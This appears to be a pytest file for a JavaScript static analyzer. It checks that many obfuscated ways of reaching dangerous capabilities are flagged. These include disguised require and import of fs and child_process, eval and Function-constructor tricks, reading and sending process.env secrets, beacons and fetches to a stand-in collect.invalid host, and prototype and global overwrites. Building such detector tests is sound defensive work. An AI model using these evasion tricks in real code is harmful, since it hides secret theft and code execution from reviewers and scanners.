"""Ways to reach a power that hide it: each is named, or said to be unknown; none is silent."""

from __future__ import annotations

import pytest
from support.javascript import shown

LOADERS = {
    "require in a Map": (
        "const m = new Map([['r', require]]); m.get('r')('fs').rm()",
        "builtin:fs.rm",
    ),
    "require in a Set": ("for (const r of new Set([require])) r('fs').rm()", "builtin:fs.rm"),
    "require through a closure": (
        "const mk = r => n => r(n); mk(require)('fs').rm()",
        "builtin:fs.rm",
    ),
    "require as a callback": ("list.map(require)", "load:computed"),
    "require as a static field": ("class A { static r = require } A.r('fs')", "builtin:fs"),
    "require as an instance field": (
        "class A { r = require; go() { return this.r('fs') } } new A().go()",
        "builtin:fs",
    ),
    "require by a getter of a class": (
        "class A { get r() { return require } } new A().r('fs')",
        "builtin:fs",
    ),
    "require kept on this": ("function A() { this.r = require } new A().r('fs')", "load:computed"),
    "require on exports": ("exports.r = require; exports.r('fs')", "load:computed"),
    "require by a default in a pattern": (
        "const { r = require } = {}; r('fs').rm()",
        "builtin:fs.rm",
    ),
    "require by nested defaults": (
        "const { a: { r = require } = {} } = {}; r('fs').rm()",
        "builtin:fs.rm",
    ),
    "require from an array pattern": ("const [r] = [require]; r('fs').rm()", "builtin:fs.rm"),
    "require by rest parameters": (
        "(function (...a) { a[0]('fs').rm() })(require)",
        "builtin:fs.rm",
    ),
    "require by spread": ("(function (r) { r('fs').rm() })(...[require])", "builtin:fs.rm"),
    "require by a generator": (
        "function* g() { yield require } g().next().value('fs')",
        "builtin:fs",
    ),
    "require by an async function": (
        "(async () => require)().then(r => r('fs').rm())",
        "builtin:fs.rm",
    ),
    "require by a promise": (
        "new Promise(ok => ok(require)).then(r => r('fs').rm())",
        "builtin:fs.rm",
    ),
    "require thrown": ("try { throw require } catch (r) { r('fs').rm() }", "builtin:fs.rm"),
    "require by a label and comma": ("x: (1, 2, require)('fs').rm()", "builtin:fs.rm"),
    "require by logical assignment": ("let r; r ||= require; r('fs').rm()", "builtin:fs.rm"),
    "require by nullish assignment": ("let r; r ??= require; r('fs').rm()", "builtin:fs.rm"),
    "require by swap": ("let a = require, b = 1; [a, b] = [b, a]; b('fs')", "builtin:fs"),
    "require through bind twice": ("require.bind(null).bind(null, 'fs')().rm()", "builtin:fs.rm"),
    "require through call.call": (
        "Function.prototype.call.call(require, null, 'fs')",
        "builtin:fs",
    ),
    "require through apply.bind": (
        "Function.prototype.apply.bind(require, null)(['fs'])",
        "builtin:fs",
    ),
    "require through Reflect alias": (
        "const R = Reflect; R.apply(require, null, ['fs'])",
        "load:computed",
    ),
    "require through destructured apply": (
        "const { apply } = Reflect; apply(require, null, ['fs'])",
        "builtin:fs",
    ),
    "require by valueOf": ("require.valueOf()('fs')", "builtin:fs"),
    "require by a proxy": ("new Proxy(require, {})('fs')", "builtin:fs"),
    "require by Object()": ("Object(require)('fs').rm()", "builtin:fs.rm"),
    "require by freeze": ("Object.freeze(require)('fs').rm()", "builtin:fs.rm"),
    "require in JSON-like object": (
        "const t = { a: { b: { c: require } } }; t.a.b.c('fs').rm()",
        "builtin:fs.rm",
    ),
    "require by computed key": (
        "const t = { ['r' + 1]: require }; t.r1('fs').rm()",
        "builtin:fs.rm",
    ),
    "require by dynamic key": ("const t = { r: require }; t[k]('fs')", "builtin:fs"),
    "require by Object.values": ("Object.values({ r: require })[0]('fs')", "builtin:fs"),
    "require by Object.entries": (
        "for (const [k, v] of Object.entries({ r: require })) v('fs')",
        "builtin:fs",
    ),
    "require by switch": (
        "let r; switch (x) { case 1: r = require } r('fs').rm()",
        "builtin:fs.rm",
    ),
    "require by with": ("with ({ r: require }) { r('fs') }", "load:computed"),
    "require by eval text": ("eval('req' + 'uire')('fs').rm()", "builtin:fs.rm"),
    "module as a parameter": ("(m => m.require('fs').rm())(module)", "builtin:fs.rm"),
    "module aliased": ("const { require: r } = module; r('fs').rm()", "builtin:fs.rm"),
    "module constructor aliased": (
        "const { constructor: M } = module; M._load('fs')",
        "load:internals",
    ),
    "module by arguments": ("const [e, r, m] = arguments; r('fs').rm()", "builtin:fs.rm"),
    "module by spread arguments": ("const a = [...arguments]; a[1]('fs')", "builtin:fs"),
    "module by Array.from": ("Array.from(arguments)[1]('fs')", "builtin:fs"),
    "arguments by slice": ("[].slice.call(arguments, 1)[0]('fs')", "builtin:fs"),
    "_load aliased": ("const { _load } = require('module'); _load('fs').rm()", "builtin:fs.rm"),
    "_load by Module": (
        "const { Module } = require('module'); Module._load('fs').rm()",
        "builtin:fs.rm",
    ),
    "createRequire namespaced": (
        "import * as m from 'module'; m.createRequire('/')('fs').rm()",
        "builtin:fs.rm",
    ),
    "createRequire required": (
        "require('module').createRequire(__filename)('fs').rm()",
        "builtin:fs.rm",
    ),
    "createRequire assigned": (
        "const req = require('node:module').createRequire(x); const f = req('fs'); f.rm()",
        "builtin:fs.rm",
    ),
    "import by variable": (
        "const n = 'f' + 's'; const f = await import(n); f.rm()",
        "builtin:fs.rm",
    ),
    "import by array": ("await import(['f', 's'].join(''))", "builtin:fs"),
    "import of node prefix built": ("import('node:' + 'fs').then(f => f.rm())", "builtin:fs.rm"),
    "import in a function's default": (
        "async function f(m = import('fs')) { (await m).rm() }",
        "builtin:fs.rm",
    ),
    "import of a blob": ("import(URL.createObjectURL(b))", "load:computed"),
    "import attributes": ("import('fs', {}).then(({ default: f }) => f.rm())", "builtin:fs.rm"),
    "import meta require": ("import.meta.require('fs')", "builtin:fs"),
    "import defer": (
        "const m = await import('child_process'); m['ex' + 'ec']('x')",
        "builtin:child_process.exec",
    ),
}
NAMES = {
    "name by shifted codes": (
        "require([103, 116].map(c => String.fromCharCode(c - 1)).join('')).rm()",
        "builtin:fs.rm",
    ),
    "name by xor": ("require(String.fromCharCode(102 ^ 0, 115 ^ 0)).rm()", "builtin:fs.rm"),
    "name by padding": ("require('f'.padEnd(2, 's')).rm()", "builtin:fs.rm"),
    "name by regexp": ("require('f0s'.replace(/\\d/, '')).rm()", "builtin:fs.rm"),
    "name by split": ("require('fs,net'.split(',')[0]).rm()", "builtin:fs.rm"),
    "name by case": ("require('FS'.toLowerCase()).rm()", "builtin:fs.rm"),
    "name by trim": ("require(' fs '.trim()).rm()", "builtin:fs.rm"),
    "name by charAt": ("require('xf'.charAt(1) + 's').rm()", "builtin:fs.rm"),
    "name by index": ("require('xf'[1] + 'xs'[1]).rm()", "builtin:fs.rm"),
    "name by a table": ("const t = ['s', 'f']; require(t[1] + t[0]).rm()", "builtin:fs.rm"),
    "name by hex base": ("require(Buffer.from('6673', 'hex') + '').rm()", "builtin:fs.rm"),
    "name by decodeURI": ("require(decodeURIComponent('%66%73')).rm()", "builtin:fs.rm"),
    "name by unescape": ("require(unescape('%66%73')).rm()", "builtin:fs.rm"),
    "name by unicode": ("require('\\u{66}\\u{73}').rm()", "builtin:fs.rm"),
    "name by JSON": ("require(JSON.parse('\"fs\"')).rm()", "builtin:fs.rm"),
    "name by Object.keys": ("require(Object.keys({ fs: 1 })[0]).rm()", "builtin:fs.rm"),
    "name by number": ("require((15).toString(36) + 's').rm()", "builtin:fs.rm"),
    "name by a parameter default": (
        "function f(n = 'fs') { return require(n) } f().rm()",
        "builtin:fs.rm",
    ),
    "name by an accessor": (
        "const o = { get n() { return 'fs' } }; require(o.n).rm()",
        "builtin:fs.rm",
    ),
    "name by a class constant": ("class C { static n = 'fs' } require(C.n).rm()", "builtin:fs.rm"),
    "name by spread text": ("require([...'fs'].join('')).rm()", "builtin:fs.rm"),
    "name by raw": ("require(String.raw`fs`).rm()", "builtin:fs.rm"),
    "name by reduce": ("require(['f', 's'].reduce((a, b) => a + b)).rm()", "builtin:fs.rm"),
    "name by environment": ("require(process.env.MOD)", "global:process.env.MOD"),
    "name by file": ("require(require('./x.json').name)", "load:computed"),
    "name by loop": ("let n = ''; for (const c of 'fs') n += c; require(n).rm()", "builtin:fs.rm"),
}
CODE = {
    "require in Function's text": (
        "new Function('r', 'return r(\"fs\")')(require)",
        "global:Function",
    ),
    "eval by comma and alias": ("const e = (0, eval); e('x')", "global:eval"),
    "eval by optional call": ("eval?.('x')", "global:eval"),
    "eval by world alias": ("const w = window; w['ev'.concat('al')]('x')", "global:eval"),
    "eval by Reflect.get": ("Reflect.get(globalThis, 'eval')('x')", "global:eval"),
    "eval by descriptor": (
        "Object.getOwnPropertyDescriptor(globalThis, 'eval').value('x')",
        "global:eval",
    ),
    "Function by async arrow": ("(async () => {}).constructor('x')", "global:Function"),
    "Function by class": ("(class {}).constructor('x')()", "global:Function"),
    "Function by a bound function": ("parseInt.bind().constructor('x')()", "global:eval"),
    "Function by a named function": ("function f() {} f.constructor('x')()", "global:Function"),
    "Function by Reflect.construct of a constructor": (
        "Reflect.construct((() => {}).constructor, ['x'])",
        "global:Function",
    ),
    "Function by a getter": (
        "Object.getOwnPropertyDescriptor(Function.prototype, 'constructor').value('x')",
        "global:Function",
    ),
    "Function by __proto__": ("(() => {}).__proto__.constructor('x')()", "global:eval"),
    "Function by prototype": ("Function.prototype.constructor('x')()", "global:eval"),
    "Function by tag": ("Function`x```", "global:Function"),
    "Function by toString": ("[]['at']['constr' + 'uctor']('x')()", "global:Function"),
    "Function by generator prototype": (
        "Object.getPrototypeOf(function* () {}).constructor('x')",
        "global:Function",
    ),
    "constructor from base64": (
        "[][atob('YXQ=')][atob('Y29uc3RydWN0b3I=')]('x')()",
        "global:Function",
    ),
    "timer with a sum": ("setTimeout('a' + b, 1)", "global:eval"),
    "timer with a template": ("setInterval(`go(${x})`, 1)", "global:eval"),
    "timer with joined text": ("setTimeout(parts.join(''), 1)", "global:eval"),
    "timer through the world": ("globalThis.setTimeout('x()', 1)", "global:eval"),
    "timer by call": ("setTimeout.call(null, 'x()', 1)", "global:eval"),
    "timer aliased": ("const t = setTimeout; t('x()', 1)", "global:eval"),
    "timer destructured": ("const { setTimeout: t } = globalThis; t('x()')", "global:eval"),
    "async generator": ("(async function* () {}).constructor('x')", "global:Function"),
    "constructor kept in a name": (
        "const c = 'constructor'; const F = [][c][c]; F('x')()",
        "global:Function",
    ),
    "constructor in an array": ("const c = ['constructor']; f[c[0]]('x')", "global:eval"),
    "constructor built, then kept": (
        "const k = 'constr' + 'uctor'; const F = (() => {})[k]; F('x')()",
        "global:Function",
    ),
    "constructor by a computed pattern": (
        "const { ['constr' + 'uctor']: F } = () => {}; F('x')",
        "global:Function",
    ),
    "constructor by Reflect.get": ("Reflect.get(f, 'constructor')('x')", "global:eval"),
    "constructor called by its named parameter": (
        "((C) => C('x'))((() => {}).constructor)",
        "global:Function",
    ),
}
OBJECTS = {
    "nested ternary loader": ("(a ? b ? require : q : z)('fs').rm()", "builtin:fs.rm"),
    "module's prototype": ("Object.getPrototypeOf(module).require('fs')", "load:internals"),
    "module's __proto__": ("module.__proto__.constructor._load('fs')", "load:internals"),
    "process.mainModule by string": (
        "process['main' + 'Module'].require('fs').rm()",
        "builtin:fs.rm",
    ),
    "process by global and string": ("global['pro' + 'cess'].binding('fs')", "load:internals"),
    "process by destructured world": (
        "const { process: p } = globalThis; p.exit()",
        "global:process.exit",
    ),
    "process by world alias in an object": (
        "const o = { g: globalThis }; o.g.process.exit()",
        "global:process.exit",
    ),
    "process by a function's this": (
        "(function () { return this })().process.exit()",
        "global:process.exit",
    ),
    "process import": ("import p from 'process'; p.env.SECRET", "global:process.env.SECRET"),
    "process import by name": (
        "import { env } from 'node:process'; env.SECRET",
        "global:process.env.SECRET",
    ),
    "process require": ("require('process').env.SECRET", "global:process.env.SECRET"),
    "env by entries": ("Object.entries(process.env)", "global:process.env"),
    "env by JSON": ("JSON.stringify(process.env)", "global:process.env"),
    "env by spread": ("send({ ...process.env })", "global:process.env"),
    "env by pattern rest": ("const { A, ...rest } = process.env; send(rest)", "global:process.env"),
    "env by a template": ("send(`${process.env.SECRET}`)", "global:process.env.SECRET"),
    "env by Reflect": ("Reflect.ownKeys(process.env)", "global:process.env"),
    "env by in": ("for (const k in process['env']) send(k)", "global:process.env"),
    "eval by values": (
        "Object.values(Object.getOwnPropertyDescriptors(globalThis))",
        "global:globalThis",
    ),
    "eval by names": (
        "Object.getOwnPropertyNames(globalThis).forEach(n => globalThis[n]('x'))",
        "unknown:computed",
    ),
    "vm Script": ("new (require('vm').Script)('x').runInThisContext()", "builtin:vm.Script"),
    "vm by import": (
        "import { runInNewContext as r } from 'vm'; r('x')",
        "builtin:vm.runInNewContext",
    ),
    "worker eval": (
        "new (require('worker_threads').Worker)('x', { eval: true })",
        "builtin:worker_threads.Worker",
    ),
    "repl": ("require('repl').start()", "builtin:repl.start"),
    "inspector": ("require('inspector').open()", "builtin:inspector.open"),
    "dlopen by string": ("process['dl' + 'open'](module, 'x')", "native:addon"),
    "binding by alias": ("const { binding } = process; binding('fs')", "load:internals"),
    "getBuiltinModule aliased": (
        "const { getBuiltinModule: g } = process; g('fs').rm()",
        "builtin:fs.rm",
    ),
    "getBuiltinModule by string": ("process['getBuiltin' + 'Module']('fs').rm()", "builtin:fs.rm"),
    "cache poisoned": ("require.cache[require.resolve('x')].exports = f", "load:internals"),
    "extension by alias": (
        "const { extensions } = require; extensions['.js'] = f",
        "load:internals",
    ),
    "loader hooks": ("require('module').register('./x.mjs')", "load:internals"),
    "worker by Blob": ("new Worker(URL.createObjectURL(new Blob(['x'])))", "global:Worker"),
    "shared realm": (
        "document.createElement('iframe').contentWindow.eval('x')",
        "global:document.createElement",
    ),
    "script element": (
        "const s = document.createElement('script'); s.src = 'x'; document.head.append(s)",
        "global:document.createElement",
    ),
    "beacon": ("navigator.sendBeacon('http://collect.invalid', x)", "global:navigator.sendBeacon"),
    "stealthy fetch": (
        "const { fetch: f } = globalThis; f('http://collect.invalid')",
        "global:fetch",
    ),
    "wasm": ("new WebAssembly.Module(b)", "native:wasm"),
    "shared memory": ("new SharedArrayBuffer(8)", "global:SharedArrayBuffer"),
    "comment between": ("require/**/\n('fs').rm()", "builtin:fs.rm"),
    "line ends": ("require\u2028('fs').rm()", "builtin:fs.rm"),
    "escaped dot": ("process\n  .  env\n  .  SECRET", "global:process.env.SECRET"),
    "html comment then code": ("<!-- a\nrequire('fs').rm()\n--> b", "builtin:fs.rm"),
    "brace less escape": ("r\\u0065quire('fs').rm()", "builtin:fs.rm"),
    "brace escape": ("r\\u{65}quire('fs').rm()", "builtin:fs.rm"),
    "escaped member": ("process.\\u0065nv.SECRET", "global:process.env.SECRET"),
    "escaped string member": ("process['\\x65nv'].SECRET", "global:process.env.SECRET"),
    "hoisted var": ("r('fs').rm(); var r = require", "builtin:fs.rm"),
    "hoisted function": ("g()('fs').rm(); function g() { return require }", "builtin:fs.rm"),
    "shadow elsewhere": ("function q() { var require = 1 } require('fs').rm()", "builtin:fs.rm"),
    "shadow in a catch": ("try {} catch (require) {} require('fs').rm()", "builtin:fs.rm"),
    "typeof guard": ("typeof require === 'function' && require('fs').rm()", "builtin:fs.rm"),
    "exports table": ("module.exports = { load: require }", "load:computed"),
    "argument object": ("run({ load: require })", "load:computed"),
    "returned object": ("module.exports = () => ({ fs: require('fs') })", "builtin:fs"),
    "bun": ("Bun.spawn(['x'])", "global:Bun.spawn"),
    "deno": ("Deno.run({ cmd: ['x'] })", "global:Deno.run"),
}
WRITES = {
    "write by alias of defineProperty": (
        "const { defineProperty: d } = Object; d(Array.prototype, 'at', {})",
        "write:Array.prototype.at",
    ),
    "write by Object alias": (
        "const O = Object; O.defineProperty(Array.prototype, 'at', {})",
        "write:Array.prototype",
    ),
    "write by bracketed defineProperty": (
        "Object['defineProperty'](Array.prototype, 'at', {})",
        "write:Array.prototype.at",
    ),
    "write by __defineGetter__": (
        "Array.prototype.__defineGetter__('at', f)",
        "write:Array.prototype.at",
    ),
    "write by a parameter": ("(p => { p.at = f })(Array.prototype)", "write:Array.prototype.at"),
    "write by a loop": (
        "for (const k of ['at']) Array.prototype[k] = f",
        "write:Array.prototype.at",
    ),
    "write by a loop of classes": (
        "for (const C of [Array, String]) C.prototype.at = f",
        "write:Array.prototype.at",
    ),
    "write by forEach of classes": (
        "[Array, String].forEach(C => { C.prototype.at = f })",
        "write:Array.prototype.at",
    ),
    "write by pattern": ("[Array.prototype.at] = [f]", "write:Array.prototype.at"),
    "write by object pattern": (
        "({ a: Array.prototype.at } = { a: f })",
        "write:Array.prototype.at",
    ),
    "write by proto of instance": ("Object.getPrototypeOf([]).at = f", "write:Array.prototype.at"),
    "write by constructor": ("[].constructor.prototype.at = f", "write:Array.prototype.at"),
    "write to a built-in's promise": (
        "require('fs').promises.readFile = f",
        "write:builtin:fs.promises.readFile",
    ),
    "write to fetch by alias": ("const g = globalThis; g.fetch = f", "write:globalThis.fetch"),
    "write to fetch by defineProperty": (
        "Object.defineProperty(window, 'fetch', { value: f })",
        "write:globalThis.fetch",
    ),
    "write to fetch by assign": (
        "Object.assign(globalThis, { fetch: f })",
        "write:globalThis.fetch",
    ),
    "write to send": (
        "XMLHttpRequest.prototype['send'] = f",
        "write:XMLHttpRequest.prototype.send",
    ),
    "write by increment": ("Object.prototype.x++", "write:Object.prototype.x"),
    "write by or": ("Array.prototype.at ||= f", "write:Array.prototype.at"),
    "module wrap": ("require('module').wrap = f", "write:builtin:module.wrap"),
    "resolve filename": (
        "require('module')._resolveFilename = f",
        "write:builtin:module._resolveFilename",
    ),
    "prototype require": (
        "require('module').prototype.require = f",
        "write:builtin:module.prototype.require",
    ),
    "__proto__ by a name": ("const p = '__proto__'; ({})[p].y = 1", "write:Object.prototype.y"),
}
ALL = {**LOADERS, **NAMES, **CODE, **OBJECTS, **WRITES}


@pytest.mark.parametrize("name", ALL)
def test_no_trick_is_silent(name: str) -> None:
    code, expected = ALL[name]
    assert expected in shown(code)
